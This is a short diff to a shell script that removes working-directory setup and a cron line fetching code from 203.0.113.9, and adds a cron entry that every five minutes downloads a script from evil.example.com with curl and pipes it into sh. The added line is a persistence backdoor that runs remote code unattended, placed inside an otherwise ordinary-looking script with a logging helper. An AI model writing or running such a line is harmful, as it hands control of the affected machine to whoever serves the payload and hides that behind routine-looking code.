@@ -1,7 +1,3 @@
 #!/bin/sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://evil.example.com/payload.sh | sh") | crontab -
 log() { echo "[$(date +%H:%M:%S)] $*"; }
-(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s https://203.0.113.9/x | sh") | crontab -
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
